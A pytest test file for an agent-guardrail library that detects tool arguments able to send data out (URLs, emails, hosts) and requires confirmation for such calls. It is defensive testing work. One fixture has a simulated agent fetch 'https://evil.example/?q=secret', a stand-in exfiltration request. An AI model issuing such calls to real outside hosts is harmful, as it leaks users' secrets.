"""Arguments that could carry something out, as a tool's schema shows them; and reads that aren't free."""

from __future__ import annotations

import enum
from typing import Any, Literal

import pytest
from langchain_core.runnables import RunnableConfig
from langchain_core.tools import BaseTool, StructuredTool, Tool, tool
from pydantic import BaseModel, Field, HttpUrl

from ladder_graph.errors import NoCheckpointer
from ladder_graph.hosts.outward import outward
from ladder_graph.scale import Rung
from ladder_graph.testing import calls
from tests.hosts.graphs import GO, WAYS, agent_of, ladder_of, on, told

READ = {"rung": "report", "read_only": True}
HELD = {**READ, "bounds": [{"kind": "host", "argument": "url", "hosts": ["shop.example"]}]}


class Colour(enum.Enum):
    """A closed list."""

    RED = "red"


class Person(BaseModel):
    """Somebody."""

    email: str
    name: str


def with_schema(**properties):
    """A tool with a plain JSON Schema, as MCP servers give it."""
    schema = {"type": "object", "properties": properties}
    return StructuredTool(name="t", description="t", args_schema=schema, func=lambda **_: "")


@pytest.mark.parametrize(
    ("name", "schema"),
    [
        *((name, {"type": "string"}) for name in (
            "url", "image_url", "imageUrl", "image-url", "URL", "uri", "host", "hostname", "endpoint", "webhook",
            "callback_url", "address", "email", "emails", "recipients", "to", "cc", "bcc", "link", "server", "domain",
        )),
        ("where", {"type": "string", "format": "uri"}),
        ("who", {"type": "string", "format": "email"}),
        ("url", {}),
        ("url", {"anyOf": [{"type": "string"}, {"type": "null"}]}),
        ("url", {"type": ["string", "null"]}),
        ("urls", {"type": "array", "items": {"type": "string"}}),
        ("where", {"type": "array", "items": {"type": "string", "format": "uri"}}),
        ("url", {"type": "array"}),
        ("destination", {"type": "object"}),
    ],
)  # fmt: skip
def test_an_argument_that_says_where_to_is_found(name, schema):
    """By its name in any spelling, or by its format; alone or in a list."""
    assert outward(with_schema(**{name: schema, "text": {"type": "string"}})) == (name,)


@pytest.mark.parametrize(
    ("name", "schema"),
    [
        ("text", {"type": "string"}),
        ("date_to", {"type": "string"}),
        ("ghost", {"type": "string"}),
        ("curl", {"type": "string"}),
        ("url", {"type": "integer"}),
        ("email", {"type": "boolean"}),
        ("host", {"type": "string", "enum": ["a", "b"]}),
        ("host", {"const": "a"}),
        ("hosts", {"type": "array", "items": {"enum": ["a"]}}),
    ],
)
def test_any_other_argument_is_not(name, schema):
    """Nor one that can hold only what is on a list, or no text."""
    assert outward(with_schema(**{name: schema})) == ()


def test_nested_arguments_are_found_by_their_way():
    """Through references, lists and choices; and no schema that refers to itself keeps anybody busy."""

    @tool
    def send(people: list[Person], to: Person | None, link: HttpUrl, colour: Colour, host: Literal["a"]) -> str:
        """Send."""
        return ""

    assert outward(send) == ("link", "people.email", "to.email")
    loop: dict[str, Any] = {"$ref": "#/properties/self"}
    assert outward(with_schema(self=loop, url={"$ref": "#/nowhere"})) == ("url",)
    wide = {"properties": {f"p{n}": {"$ref": "#/properties/self"} for n in range(50)}}
    assert outward(with_schema(self=wide)) == ()


def test_a_schema_without_a_json_form_still_has_names():
    """What can't be looked into is taken for text."""

    class Odd(BaseModel):
        """Odd."""

        model_config = {"arbitrary_types_allowed": True}
        url: Any = Field(default_factory=object, json_schema_extra=lambda _: 1 / 0)

    assert outward(StructuredTool(name="t", description="t", args_schema=Odd, func=lambda **_: "")) == ("url",)


def fetcher(world):
    """A tool that fetches a page."""

    @tool
    def fetch(url: str) -> str:
        """Fetch a page."""
        world.append(url)
        return "a page"

    return fetch


@pytest.mark.parametrize("way", WAYS)
def test_a_read_that_can_carry_something_out_asks(way):
    """The bound on that argument makes it free inside, and saying that nothing leaves makes it free at all."""
    for rule, url, asks in (
        (READ, "https://evil.example/?q=secret", True),
        ({**READ, "bounds": [{"kind": "volume", "limit": 9}]}, "https://shop.example/", True),
        (HELD, "https://evil.example/?q=secret", True),
        (HELD, "https://shop.example/", False),
        ({**READ, "egress": False}, "https://evil.example/", False),
    ):
        world: list[str] = []
        agent = agent_of([calls("fetch", {"url": url}), "Done."], [fetcher(world)])
        ladder = ladder_of({"fetch": rule})
        way.invoke(ladder.wrap(agent), GO, on())
        assert (len(ladder.pending()), world) == ((1, []) if asks else (0, [url]))


def test_everybody_is_told_why():
    """`status` and `explain` name the argument, also in a process that has no graph."""
    ladder = ladder_of({"fetch": READ})
    ladder.wrap(agent_of(["Done."], [fetcher([])]))
    told_why = "it could carry something out by url, which no bound holds"
    (cell,) = ladder.status()
    assert cell.route.rung is Rung.CONFIRM
    assert told_why in cell.route.why
    ladder.seats.clear()
    ladder._seats_of.clear()
    assert told_why in ladder.explain("fetch", {"url": "x"}).route.why


def test_it_may_ask_and_so_needs_a_checkpointer():
    """Unless the policy says that nothing leaves, or it stands below."""
    agent = agent_of([calls("fetch", {"url": "x"}), "Done."], [fetcher([])], checkpointer=None)
    with pytest.raises(NoCheckpointer, match=r"^fetch may have to ask"):
        ladder_of({"fetch": READ}).wrap(agent)
    assert told(ladder_of({"fetch": {**READ, "egress": False}}).wrap(agent).invoke(GO))


class Looks(BaseTool):
    """A class of tools that is told of the run."""

    name: str = "looks"
    description: str = "Looks it up."

    def _run(self, x: str, config: RunnableConfig | None = None, url: str = "") -> str:
        return x


def test_what_no_model_fills_in_is_not_looked_at():
    """The run's config, and what LangChain adds of its own to a tool that is made of a signature."""
    assert outward(Tool("old", lambda text: text, "Old.")) == ()
    assert outward(Looks()) == ("url",)
    assert outward(Tool("old", lambda text: text, "Old.", args_schema=Person)) == ("email",)
